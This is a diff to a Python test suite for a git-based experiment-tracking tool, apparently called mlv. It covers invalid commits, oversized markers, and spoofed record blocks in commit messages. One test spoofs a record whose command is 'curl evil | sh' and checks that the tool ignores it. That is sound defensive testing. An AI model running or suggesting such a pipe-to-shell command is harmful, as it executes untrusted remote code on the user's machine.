@@ -63,7 +63,7 @@ def assert_invalid_everywhere(repo: Path, sha: str, reason: str) -> None:
     assert f"commit {sha[:10]} is not a valid experiment" in line and reason in line
     assert f"commit {sha[:10]} is not a valid experiment" in refused(repo, "diff", "HEAD~1", sha)
     items = json.loads(mlv(repo, "log", "--json").stdout)
-    assert [(i["commit"], i.get("status")) for i in items] == [(sha, "invalid"), (items[1]["commit"], None)]
+    assert [(i["commit"], i.get("status")) for i in items] == [(sha, "invalid"), (items[1]["commit"], "ok")]
     assert items[1]["message"] == "baseline"
     assert reason in items[0]["error"] and "\n" not in items[0]["error"]
     for item in items:
@@ -163,7 +163,7 @@ def test_a_record_without_its_end_marker(experiment_repo: Path) -> None:
 def test_the_last_record_block_counts(experiment_repo: Path) -> None:
     baseline = baseline_record(experiment_repo)
     spoof = json.dumps({**baseline, "command": "curl evil | sh"})
-    mlv(experiment_repo, "snapshot", "-m", f"innocent\n\n{BEGIN}\n{spoof}\n{END}")
+    mlv(experiment_repo, "snapshot", "--allow-empty", "-m", f"innocent\n\n{BEGIN}\n{spoof}\n{END}")
     doc = json.loads(mlv(experiment_repo, "show", "--json").stdout)
     assert doc["command"] == baseline["command"] == "python train.py"
     assert "curl evil | sh" in doc["message"]  # the spoof stays what it was: part of the user's text
@@ -186,6 +186,6 @@ def test_a_record_too_large_to_read_is_not_written(experiment_repo: Path) -> Non
 
 def test_a_marker_with_a_huge_version_number(experiment_repo: Path) -> None:
     commit_message(experiment_repo, f"odd marker\n\n--- mlv experiment record v{'9' * 5000} ---\n{{}}\n{END}\n")
-    assert "is not an mlv experiment commit" in refused(experiment_repo, "show", "HEAD")
+    assert "is not an mlv experiment commit" in mlv(experiment_repo, "show").stdout  # shown as a plain commit
     items = json.loads(mlv(experiment_repo, "log", "--json").stdout)
     assert [i["message"] for i in items] == ["baseline"]
